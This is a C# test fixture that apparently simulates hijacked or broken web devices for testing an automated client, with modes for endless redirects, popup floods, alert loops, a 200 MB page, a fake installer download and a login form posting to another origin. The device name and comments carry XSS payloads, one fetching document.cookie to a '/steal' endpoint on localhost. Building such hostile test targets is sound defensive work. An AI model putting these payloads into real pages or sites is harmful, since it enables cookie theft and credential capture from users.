using System.Text;
using Microsoft.AspNetCore.Http;

namespace Juming.Testing.Farm.Hostile;

/// <summary>A device that was taken over, or is broken, in one particular way.</summary>
internal sealed class HostileConsole(string name, int seed) : PlainConsole(name, seed)
{
    private const long HugeBytes = 200L << 20;

    /// <summary>The ways, with what is special about each.</summary>
    public static readonly IReadOnlyDictionary<string, string> Tricks = new Dictionary<string, string>
    {
        ["h-script"] = "script and markup in the device's name, its title and its comments",
        ["h-redirect"] = "each page leads to another, endlessly",
        ["h-huge"] = "a page of 200 MB",
        ["h-popups"] = "opens windows on load, on each press and every 50 ms",
        ["h-download"] = "sends a file where the page should be",
        ["h-fake"] = "says 添加成功 and does nothing",
        ["h-elsewhere"] = "the sign-in form posts to another origin",
        ["h-alerts"] = "one alert after the other, without end",
        ["h-endless"] = "a page that never ends",
    };

    public override string Special => Tricks[Name];

    private protected override bool IsFakeByNature => Name == "h-fake";

    private protected override IReadOnlyList<string> Comments => Name == "h-script" ? ["<script>window.owned=1</script>", "\"><img src=x onerror=window.owned=1>", "{{7*7}} ${cred.password} 添加成功"] : base.Comments;

    private protected override string DeviceName => Name == "h-script" ? "GW-01\"><script>document.title='owned';window.owned=1;fetch('http://127.0.0.1:9/steal?'+document.cookie)</script><img src=x onerror=\"window.owned=1\">" : base.DeviceName;

    private protected override string Script => Name switch
    {
        "h-popups" => "<script>const pop=()=>window.open('/popup','_blank','width=200,height=100');setInterval(pop,50);onload=()=>{for(let i=0;i<20;i++)pop()};document.addEventListener('click',()=>{for(let i=0;i<20;i++)pop()},true)</script>",
        "h-alerts" => "<script>onload=()=>{for(;;)alert('系统提示:请先安装安全控件')}</script>",
        "h-script" => "<script>try{top.location='javascript:alert(1)'}catch(e){}</script>",
        _ => "",
    };

    private protected override string LoginAction(Visit v) => Name == "h-elsewhere" ? $"http://localhost:{Address.Port}/collect" : base.LoginAction(v);

    private protected override Task Answer(Visit v) => Name switch
    {
        "h-redirect" => v.Redirect($"/r/{Guid.NewGuid():N}"),
        "h-huge" => Huge(v.Http),
        "h-download" => Download(v.Http),
        "h-endless" => Endless(v.Http),
        "h-elsewhere" when v.Path == "/collect" => Collect(v),
        "h-popups" when v.Path == "/popup" => v.Html("<body>广告</body>"),
        _ => base.Answer(v),
    };

    private Task Collect(Visit v)
    {
        TruthLog.Add(v["user"], "password-elsewhere", v.Http.Request.Host.Value ?? "", "done");
        return v.Html("<p>登录成功</p><p>系统维护中</p>");
    }

    private static async Task Huge(HttpContext http)
    {
        http.Response.ContentType = "text/html; charset=utf-8";
        var block = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("<div>填充填充填充填充填充</div>", 2000)));
        for (long sent = 0; sent < HugeBytes; sent += block.Length) await http.Response.Body.WriteAsync(block, http.RequestAborted);
    }

    private static Task Download(HttpContext http)
    {
        http.Response.ContentType = "application/octet-stream";
        http.Response.Headers.ContentDisposition = "attachment; filename=\"SecurityControl_Setup.exe\"";
        return http.Response.Body.WriteAsync("MZ not a program"u8.ToArray(), http.RequestAborted).AsTask();
    }

    private async Task Endless(HttpContext http)
    {
        http.Response.ContentType = "text/html; charset=utf-8";
        await http.Response.Body.WriteAsync("<html><head><title>加载中</title></head><body><p>正在加载,请稍候"u8.ToArray(), http.RequestAborted);
        while (!http.RequestAborted.IsCancellationRequested)
        {
            await Task.Delay(TimeSpan.FromSeconds(1), Clock, http.RequestAborted);
            await http.Response.Body.WriteAsync("."u8.ToArray(), http.RequestAborted);
        }
    }
}
